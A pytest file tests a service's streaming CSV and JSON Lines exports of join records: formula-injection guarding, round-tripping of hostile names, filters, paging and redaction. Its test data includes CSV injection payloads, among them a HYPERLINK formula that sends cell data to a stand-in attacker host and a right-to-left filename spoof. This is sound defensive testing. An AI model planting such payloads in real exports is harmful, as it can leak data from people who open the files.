"""Streaming CSV and JSON Lines exports: hostile names survive, Excel never sees a formula, pages stream."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service.projection import (
    EXPORT_COLUMNS,
    apply_batch,
    export_csv,
    export_jsonl,
    open_database,
    open_read_connection,
    unescape_csv_cell,
)
from service.projection.export import FORMULA_TRIGGERS, escape_csv_cell
from service.records import AttributionKind, JoinFlag, JoinRecorded, MemberLeft, UserErased
from tests.service.test_projection import T0, join, numbered

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
    "'quoted already",
    'say "hi", then, leave',
    "two\nlines\r\nand a CR\r",
    "مرحبا بالعالم",
    "שלום",
    "\u202eevil.exe\u202c",
    "👨‍👩‍👧‍👦 family",
    "zero\u200bwidth\u200djoiner",
    "🏳️‍🌈",
    "",
    " =leading space",
    "\x00nul",
    "unit\x1fseparator",  # the character the export joins cells with inside SQLite
]

TEXT_COLUMNS = (
    "user_id",
    "username",
    "display_name",
    "invite_code",
    "staff_id",
    "staff_username",
    "guild_id",
    "guild_name",
    "attribution_kind",
    "candidates",
    "flags",
)


def hostile_join(name: str, i: int) -> JoinRecorded:
    return JoinRecorded(
        timestamp=T0 + timedelta(seconds=i, microseconds=i * 7),
        guild_id="g" if i % 2 else "811111111111111111",
        guild_name=name,
        # a snowflake (stored as an integer), a leading zero and a sign (kept as text), a plain text
        user_id=(f"{10**18 + i}", f"0{i}", f"-{i + 1}", f"u{i}")[i % 4],
        username=name,
        display_name=name[::-1],
        kind=AttributionKind.EXACT,
        invite_code=name or None,
        staff_id="900000000000000009" if i % 3 else "s1",
        staff_username=name,
        uses_before=-2 if i % 2 else i,  # a negative number must stay a number
        uses_after=i + 1,
        candidates=(name,),
        flags=(JoinFlag.REJOIN,) if i % 2 else (),
        account_created_at=None if i % 3 == 0 else T0 - timedelta(days=i),
    )


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    header = next(reader)
    assert tuple(header) == EXPORT_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


def expected_row(lsn: int, r: JoinRecorded) -> dict[str, object]:
    """The JSON Lines object of a join: the brief's fields in its order, then the ledger's own."""
    return {
        "timestamp": r.timestamp.isoformat(),
        "user_id": r.user_id,
        "username": r.username,
        "display_name": r.display_name,
        "invite_code": r.invite_code,
        "staff_id": r.staff_id,
        "staff_username": r.staff_username,
        "uses_before": r.uses_before,
        "uses_after": r.uses_after,
        "guild_id": r.guild_id,
        "guild_name": r.guild_name,
        "attribution_kind": r.kind.value,
        "candidates": list(r.candidates),
        "flags": [f.value for f in r.flags],
        "account_created_at": None if r.account_created_at is None else r.account_created_at.isoformat(),
        "lsn": lsn,
        "settled_lsn": None,  # no settlement by hand here (see test_settle.py)
    }


def as_csv_cells(row: dict[str, object]) -> dict[str, str]:
    """What a CSV reader gives back for a JSON row, once the `'` guard is removed from text cells."""

    def cell(value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, list):
            return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        return str(value)

    return {key: cell(value) for key, value in row.items()}


@pytest.fixture
def conn(tmp_path: Path):
    writer = open_database(tmp_path / "projection.sqlite3")
    yield writer
    writer.close()


def test_hostile_names_round_trip_through_csv_and_jsonl(conn):
    log = numbered(*[hostile_join(name, i) for i, name in enumerate(HOSTILE)])
    apply_batch(conn, log)
    reader = open_read_connection(conn.filename)

    rows = read_csv(b"".join(export_csv(reader, page_size=4)))
    assert len(rows) == len(HOSTILE)
    for (lsn, record), row in zip(log, rows, strict=True):
        for column in TEXT_COLUMNS:  # Excel would evaluate none of them
            assert row[column][:1] not in FORMULA_TRIGGERS or row[column].startswith("'")
        restored = {
            key: unescape_csv_cell(value) if key in TEXT_COLUMNS else value for key, value in row.items()
        }
        assert restored == as_csv_cells(expected_row(lsn, record))
    assert {row["uses_before"] for row in rows} >= {"-2"}  # numbers are not prefixed

    lines = b"".join(export_jsonl(reader, page_size=4)).decode("utf-8").split("\n")
    assert lines[-1] == ""
    assert [json.loads(line) for line in lines[:-1]] == [expected_row(lsn, r) for lsn, r in log]
    assert list(json.loads(lines[0])) == list(EXPORT_COLUMNS)
    reader.close()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(st.text(st.characters(exclude_categories=("Cs",)), max_size=12), min_size=1, max_size=6)
)
def test_any_name_round_trips(tmp_path_factory, names):
    conn = open_database(tmp_path_factory.mktemp("export") / "p.sqlite3")
    log = numbered(*[hostile_join(name, i) for i, name in enumerate(names)])
    apply_batch(conn, log)
    exported = b"".join(export_csv(conn, page_size=2))
    assert exported == b"\xef\xbb\xbf" + reference_csv(log)
    rows = read_csv(exported)
    for (lsn, record), row in zip(log, rows, strict=True):
        restored = {
            key: unescape_csv_cell(value) if key in TEXT_COLUMNS else value for key, value in row.items()
        }
        assert restored == as_csv_cells(expected_row(lsn, record))
    # split("\n"), not splitlines(): a name may hold U+0085 or U+2028, which JSON leaves unescaped
    jsonl = b"".join(export_jsonl(conn)).decode("utf-8").split("\n")[:-1]
    assert [json.loads(line) for line in jsonl] == [expected_row(lsn, r) for lsn, r in log]
    conn.close()


def reference_csv(log: list[tuple[int, JoinRecorded]]) -> bytes:
    """The export as csv.writer (excel dialect) writes it, guarded text cells included."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, dialect="excel")
    writer.writerow(EXPORT_COLUMNS)
    for lsn, record in log:
        cells = as_csv_cells(expected_row(lsn, record))
        writer.writerow([escape_csv_cell(v) if k in TEXT_COLUMNS else v for k, v in cells.items()])
    return buffer.getvalue().encode("utf-8")


def test_csv_bytes_equal_the_csv_modules_excel_dialect(conn):
    """The export builds lines itself for speed; they must be exactly what csv.writer would write."""
    log = numbered(*[hostile_join(name, i) for i, name in enumerate(HOSTILE)])
    apply_batch(conn, log)
    assert b"".join(export_csv(conn, bom=False, page_size=3)) == reference_csv(log)


def test_escape_and_unescape_are_inverse():
    for text in [*HOSTILE, "''double", "plain"]:
        escaped = escape_csv_cell(text)
        assert escaped[:1] not in FORMULA_TRIGGERS or escaped.startswith("'")
        assert unescape_csv_cell(escaped) == text


def test_filters_select_a_guild_and_a_half_open_time_range(conn):
    apply_batch(
        conn,
        numbered(
            join("u1", 0),
            join("u2", 10),
            join("u3", 20, guild="other"),
            MemberLeft(T0, "g", "u1"),  # not a join: not exported
            join("u4", 30),
        ),
    )

    def lsns(**filters) -> list[str]:
        return [row["lsn"] for row in read_csv(b"".join(export_csv(conn, **filters)))]

    assert lsns() == ["1", "2", "3", "5"]
    assert lsns(guild_id="g") == ["1", "2", "5"]
    assert lsns(guild_id="g", since=T0 + timedelta(seconds=10), until=T0 + timedelta(seconds=30)) == ["2"]
    jsonl = b"".join(export_jsonl(conn, guild_id="other")).decode().split("\n")[:-1]
    assert [json.loads(line)["user_id"] for line in jsonl] == ["u3"]
    assert b"".join(export_jsonl(conn, guild_id="none")) == b""


def test_no_bom_on_request_and_the_header_alone_for_an_empty_ledger(conn):
    assert b"".join(export_csv(conn, bom=False)) == (",".join(EXPORT_COLUMNS) + "\r\n").encode()


def test_erased_users_are_exported_redacted(conn):
    apply_batch(conn, numbered(join("u1", username="john"), UserErased(T0, "g", "u1", "u1")))
    (row,) = read_csv(b"".join(export_csv(conn)))
    assert (row["user_id"], row["username"], row["display_name"], row["account_created_at"]) == (
        "",
        "[erased]",
        "[erased]",
        "",
    )
    assert (row["invite_code"], row["staff_id"], row["attribution_kind"]) == ("abc", "s1", "exact")


def test_exports_stream_page_by_page_and_stop_at_the_lsn_applied_when_they_started(conn):
    apply_batch(conn, numbered(*[join(f"u{i}", i) for i in range(10)]))
    chunks = export_csv(conn, page_size=3, bom=False)
    header = next(chunks)
    assert header.startswith(b"timestamp,")
    first_page = next(chunks)
    assert first_page.count(b"\r\n") == 3  # one page fetched, not the whole table
    # Joins applied while the export runs are not part of it (it covers the log up to where it began).
    apply_batch(conn, numbered(*[join(f"late{i}", 100 + i) for i in range(5)], first=11))
    rest = b"".join(chunks)
    rows = read_csv(b"\xef\xbb\xbf" + header + first_page + rest)
    assert [row["lsn"] for row in rows] == [str(lsn) for lsn in range(1, 11)]


def test_an_export_to_a_file_counts_its_rows_while_it_writes(conn, tmp_path: Path):
    """The row count comes from the pages as they stream, not from reading the file back: names holding
    newlines, quotes and commas are still one row each."""
    from service.queries import export_to_file

    log = numbered(*[hostile_join(name, i) for i, name in enumerate(HOSTILE)])
    apply_batch(conn, log)
    reader = open_read_connection(conn.filename)
    try:
        for fmt in ("csv", "jsonl"):
            path = tmp_path / f"export.{fmt}"
            rows = export_to_file(reader, path, guild_id=None, fmt=fmt)
            assert rows == len(HOSTILE)
            written = path.read_bytes()
            counted = len(read_csv(written)) if fmt == "csv" else written.count(b"\n")
            assert counted == rows
    finally:
        reader.close()
